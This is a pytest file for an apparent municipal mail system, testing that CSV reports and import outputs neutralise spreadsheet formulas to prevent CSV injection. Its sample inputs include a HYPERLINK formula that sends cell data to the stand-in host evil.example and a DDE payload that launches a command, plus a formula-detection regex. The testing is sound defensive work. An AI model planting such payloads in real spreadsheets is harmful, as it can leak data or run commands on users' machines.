"""Every CSV a clerk opens in a spreadsheet (a drop's report and paper-mail export, `drop report`,
the activation codes and rejected rows of `citizen import`, a survey tally) carries no formula:
a cell that would start one gets a leading single quote (OWASP, CSV injection), while a plain
number, a negative amount too, stays a number."""
from __future__ import annotations

import csv
import os
import re
import subprocess
import sys

from drophelpers import write_csv
from mailserver.bench.util import citizen_number

HEADER = ["reference", "id_number", "name", "licence_number", "expiry_date", "office", "amount"]
HYPERLINK = '=HYPERLINK("http://evil.example/x?"&A2,"续期")'
DDE = "+cmd|' /C calc'!A0"
#: what a spreadsheet would run: the ASCII starts, TAB, CR, and full-width forms
FORMULA = re.compile(r"[ \u3000]*[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]")
PLAIN_NUMBER = re.compile(r"[+-]?\.?[0-9][0-9.,]*")


def civicmail(config, *args: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "mailserver.cli", "-c", str(config.source), *args],
                          capture_output=True, text=True, timeout=120)


def cells_of(path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def assert_no_formula(path) -> None:
    for row in cells_of(path):
        for cell in row:
            assert not FORMULA.match(cell) or PLAIN_NUMBER.fullmatch(cell), (path.name, cell)


def test_safe_cell_quotes_formulas_and_keeps_numbers():
    from mailserver.cells import safe_cell

    for formula in ("=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "\t=1", "\r=1", " =1", "\u3000=1", "\uff1d1+1",
                    "-A1", "-", HYPERLINK, DDE):
        assert safe_cell(formula) == "'" + formula, formula
    for plain in ("-12.50", "-1,268.40", "+86", "-.5", "0", "张三", "a=b", "'=1", "", 7, -3, None):
        assert safe_cell(plain) == plain, plain


def test_drop_report_and_paper_export_carry_no_formula(sqlite_registry, sqlite_city, tmp_path):
    config = sqlite_registry.config
    registered = "330102196804120318"  # 陈建国, a sample citizen
    unknown = citizen_number(4242)
    drop = write_csv(tmp_path / "formulas.csv", HEADER, [
        ["JJ-1", registered, "陈建国", "330102196804120312", "2026-12-31", HYPERLINK, "-12.50"],
        ["JJ-2", unknown, "@SUM(1+1)", DDE, "2027-01-15", "\uff1d1+1", "-2+3"],
        ["JJ-3", registered, "陈建国", "330102196804120312", "=1+1", "\t=cmd", "-1,268.40"],
    ])
    run = civicmail(config, "drop", "run", str(drop), "--agency", "traffic-police", "--notice-type", "licence-renewal")
    assert run.returncode == 0, run.stderr
    out = config.data_path("drops") / "1"
    report = {r["row"]: r for r in csv.DictReader(open(out / "report.csv", encoding="utf-8-sig", newline=""))}
    assert [report[n]["drop_status"] for n in ("2", "3", "4")] == ["delivered", "unmatched", "invalid"]
    assert report["2"]["office"] == "'" + HYPERLINK and report["2"]["amount"] == "-12.50"
    assert report["3"]["name"] == "'@SUM(1+1)" and report["3"]["licence_number"] == "'" + DDE
    assert report["3"]["office"] == "'\uff1d1+1" and report["3"]["amount"] == "'-2+3"
    assert report["4"]["expiry_date"] == "'=1+1" and report["4"]["amount"] == "-1,268.40"
    assert_no_formula(out / "report.csv")
    paper = list(csv.DictReader(open(out / "paper.csv", encoding="utf-8-sig", newline="")))
    assert [(p["row"], p["name"], p["id_number"]) for p in paper] == [("3", "'@SUM(1+1)", unknown)]
    assert_no_formula(out / "paper.csv")

    rebuilt = tmp_path / "rebuilt.csv"
    assert civicmail(config, "drop", "report", "1", "-o", str(rebuilt)).returncode == 0
    assert cells_of(rebuilt)[2][3] == "'@SUM(1+1)"
    assert_no_formula(rebuilt)
    # to standard output: written in place (the device is not replaced by a file)
    piped = civicmail(config, "drop", "report", "1", "-o", "/dev/stdout")
    assert piped.returncode == 0 and "'@SUM(1+1)" in piped.stdout
    assert os.path.islink("/dev/stdout") or not os.path.isfile("/dev/stdout")


def test_citizen_import_codes_and_rejected_rows_carry_no_formula(sqlite_registry, tmp_path):
    config = sqlite_registry.config
    people = write_csv(tmp_path / "people.csv", ["name", "id_number", "phone"], [
        ["=2+3", citizen_number(1), "+86 138 0000 0001"],
        ["@张三", citizen_number(2), "13800000002"],
        ["李四", "=1+1", ""],
    ])
    codes, errors = tmp_path / "codes.csv", tmp_path / "errors.csv"
    done = civicmail(config, "citizen", "import", str(people), "--codes", str(codes), "--errors", str(errors))
    assert done.returncode == 0, done.stderr
    rows = list(csv.DictReader(open(codes, encoding="utf-8", newline="")))
    assert [(r["name"], r["phone"]) for r in rows] == [("'=2+3", "'+86 138 0000 0001"), ("'@张三", "13800000002")]
    assert_no_formula(codes)
    assert cells_of(errors)[1][0] == "4"
    assert_no_formula(errors)
